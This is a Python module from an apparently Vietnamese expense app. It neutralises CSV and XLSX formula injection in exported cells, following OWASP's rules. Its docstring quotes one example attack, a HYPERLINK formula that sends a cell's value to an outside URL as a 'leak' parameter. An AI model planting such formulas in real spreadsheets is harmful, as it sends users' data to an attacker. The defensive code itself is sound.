"""Cells that leave chitieu in a spreadsheet or a CSV file: what a person typed stays text.

A comment such as ``=HYPERLINK("http://…?leak="&B2,"Xem")`` must never become a live formula in
the office's Excel. The rules are OWASP's for CSV injection: a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return (or their full-width forms) is neutralised. In a
CSV file it gets a leading apostrophe, which spreadsheet programs show as text; in an XLSX file the
cell is written as a string (openpyxl would otherwise store it as a formula), so the value reads
back exactly as typed. A plain number written as text ("-5", "+3,5", "1.160") is not a formula
and is left alone. Characters that XML cannot hold (U+0000–U+001F but tab, line feed and carriage
return) are dropped so that an export never fails on them.

Pure Python: openpyxl is imported only by :func:`append_row`, which receives its worksheet.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*(?:[eE][+-]?\d+)?%?")
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet program would read ``text`` as a formula or a command."""
    return bool(text) and text[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text)


def clean(text: str) -> str:
    """``text`` without the control characters an XLSX file cannot hold."""
    return _ILLEGAL.sub("", text)


def csv_cell(value: Any) -> Any:
    """A value ready for ``csv.writer``: formula-like text gets a leading apostrophe."""
    if not isinstance(value, str):
        return value
    value = clean(value)
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def append_row(ws, values: Iterable[Any]) -> None:
    """``ws.append(values)`` for an openpyxl worksheet, with every text cell kept as text."""
    values = [clean(v) if isinstance(v, str) else v for v in values]
    ws.append(values)
    row = ws.max_row
    for col, v in enumerate(values, 1):
        if isinstance(v, str) and is_formula_like(v):
            ws.cell(row=row, column=col).data_type = "s"


def table_xlsx(headers: list[str], rows: Iterable[Iterable[Any]], title: str = "Bảng") -> bytes:
    """One sheet: a bold header row, then the rows, every text cell kept as text."""
    import io

    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook()
    ws = wb.active
    ws.title = title[:31]
    append_row(ws, headers)
    for c in ws[1]:
        c.font = Font(bold=True)
    for r in rows:
        append_row(ws, r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
